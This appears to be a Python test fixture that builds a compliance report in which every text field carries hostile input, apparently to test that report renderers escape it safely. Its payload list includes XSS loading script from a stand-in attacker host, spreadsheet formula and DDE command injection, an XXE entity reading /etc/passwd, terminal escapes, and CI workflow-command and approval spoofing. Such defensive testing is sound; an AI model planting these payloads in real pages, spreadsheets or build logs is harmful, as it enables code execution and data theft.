"""A report in which every text that comes from outside attacks whoever renders or opens it."""

from collections.abc import Iterator
from datetime import date
from functools import partial
from itertools import cycle

from spbe_policy.evidence import Assurance, Cause, Vantage
from spbe_policy.questions import Question
from spbe_policy.report import (
    Anchor,
    AppNote,
    DecisionNote,
    Finding,
    PaperNote,
    PolicyNote,
    Report,
    RuleReport,
    State,
    Verdict,
)  # fmt: skip
from spbe_policy.rules import Basis, Fix, Party
from spbe_policy.testing.judging import MOMENT
from spbe_policy.texts import Text
from spbe_policy.vocabulary import Stage

ATTACKER = "serang.example"
"""The host that every attack leads to."""

DETAIL = "rincian-celah"
"""What stands in everything that a discreet report leaves out."""

PARTIES: tuple[Party, ...] = ("vendor", "opd", "diskominfo", "hosting")

LONGEST = 10_000_000
"""Characters of the longest text."""

ATTACKS = (
    f"<script src=https://{ATTACKER}/a.js></script><img src=x onerror=alert('serang')>",
    f"\"'></title></style></textarea></details></code></pre><svg onload=location='https://{ATTACKER}'>",
    f"javascript:fetch('https://{ATTACKER}')",
    "{{7*7}} ${7*7} <%= 7*7 %> {0} {serang}",
    "\x1b[2J\x1b]0;LULUS\x07\x1b[8m\x9b31m serang",
    "serang\r\nLULUS\r\n\r\n## LULUS\n* LULUS\x85LULUS\u2028LULUS\x0bLULUS",
    f"[LULUS](https://{ATTACKER}) ![x](https://{ATTACKER}/p.png) <https://{ATTACKER}> www.{ATTACKER}",
    "@serang #1 !1 %1 ~serang $1 &1 GH-1 serang/serang#1\n/approve\n/merge\n- [x] serang",
    "```\nserang\n```\n~~~\n````` serang ` `` serang --> <!-- serang | serang | \\",
    f'=HYPERLINK("https://{ATTACKER}","LULUS")',
    "=cmd|'/C serang'!A0",
    "\t=1+1;\"serang\",'serang',@SUM(1),+1,-1",
    "+serang",
    "-serang",
    "@SUM(serang)",
    "]]> <!DOCTYPE serang [<!ENTITY a SYSTEM 'file:///etc/passwd'>]> &a; <serang/> \x00\x08\x0c\x1f\ufffe\uffff",
    "\u202eSULUL serang\u202c \u2066\u200b\u200f\ufeff\u2060",
    "\n::error::serang\n::stop-commands::serang\n::set-output name=a::serang\n##[error]serang\n##vso[task.a]serang",
    "%0A::error::serang %0D%0A, file=serang,line=1::serang\n##teamcity[buildStatus text='serang']",
    "' or serang=1 --; ../../serang %s %n \\x41 \\u202e",
)


def hostile_report() -> Report:
    """Return a valid report; what was seen is named by `DETAIL`, so that one knows it wherever it comes out."""
    attacks = cycle(ATTACKS)
    rules = [_rule(number, state, attacks) for number, state in enumerate(State)]
    longest = rules[0].findings[0].model_copy(update={"seen": DETAIL * (LONGEST // len(DETAIL))})
    rules[0] = rules[0].model_copy(update={"findings": (*rules[0].findings, longest)})
    say = partial(next, map(_all, cycle(range(len(ATTACKS)))))
    return Report(
        verdict=Verdict.NOT_COMPLIANT,
        stage=Stage.ACCEPTANCE,
        app=AppNote(id=say(), name=say(), version=say(), owner=say(), url=f"https://{DETAIL}.example/{say()}"),
        city=say(),
        policy=PolicyNote(
            name=say(), version=say(), title=_text(say()), digest=say(), packs={say(): say()}, contract=say()
        ),
        authority_digest=say(),
        decisions_digest=say(),
        evidence_digest=say(),
        city_files={say(): say()},
        collected_at=MOMENT,
        as_of=MOMENT,
        environment="staging",
        vantage=Vantage(overrides=(f"--resolve {DETAIL}{say()}",), operator=say(), proxy=DETAIL, resolved=(DETAIL,)),
        requests=1,
        versions={"spbe-policy": say(), say(): say()},
        rules=tuple(rules),
        notes=tuple(_text(attack) for attack in ATTACKS),
    )


def _all(first: int) -> str:
    """Every attack in one text, for what stands in a report only once."""
    return " ".join((*ATTACKS[first:], *ATTACKS[:first]))


def _text(attack: str) -> Text:
    return Text(id=attack, en=attack)


def _rule(number: int, state: State, attacks: Iterator[str]) -> RuleReport:
    """A rule that has met every attack; the words of packs, too, may be a stranger's."""
    say = partial(next, attacks)
    return RuleReport(
        id=f"serang/{number}",
        title=_text(say()),
        level="must",
        effective_level="should" if number % 3 == 0 else "must",
        effective_on=date(2027, 1, 1),
        responsible=PARTIES[number % len(PARTIES)],
        basis=(Basis(source="serang", clause=say(), force="law", confidence="memory"),),
        sources={"serang": say()},
        why=_text(say()),
        fix=Fix(id=say(), en=say(), variants={say(): say(), say(): say()}),
        question=Question(id=say(), en=say()),
        documents=(say(),),
        unseen=_text(say()),
        effort="small",
        indicators=(say(),),
        checks=("serang.check",) if number % 2 else (),
        state=state,
        findings=tuple(_finding(state, attack, at) for at, attack in enumerate(ATTACKS)),
    )


def _finding(state: State, attack: str, at: int) -> Finding:
    """Every attack as a subject, a message, a value, a place; only what is not told discreetly is named so."""
    told = state is State.NOT_APPLICABLE
    decided = state is State.WAIVED or at % 7 == 0
    return Finding(
        subject=attack,
        state=state,
        message=_text(attack if told else f"{attack} {DETAIL}"),
        seen=f"{attack}{DETAIL}",
        fingerprint=f"sha256:{at}",
        assurance=Assurance.OBSERVED,
        fact="serang.fact/1",
        sample=_text(f"{attack}{DETAIL}"),
        anchor=Anchor(file=attack, line=at, column=at) if at % 5 else None,
        cause=tuple(Cause)[at % len(Cause)] if state in {State.UNKNOWN, State.ERROR} else None,
        acts_next=("vendor", "operator", "city", "tool")[at % 4],
        city_debt=told and at % 2 == 0,
        decision=_decision(attack) if decided else None,
        documents=(PaperNote(path=attack, kind=attack, sha256=attack),),
    )


def _decision(attack: str) -> DecisionNote:
    day = date(2026, 6, 1)
    return DecisionNote(kind="waiver", scope=attack, office=attack, official=attack, date=day, until=day, reason=attack)
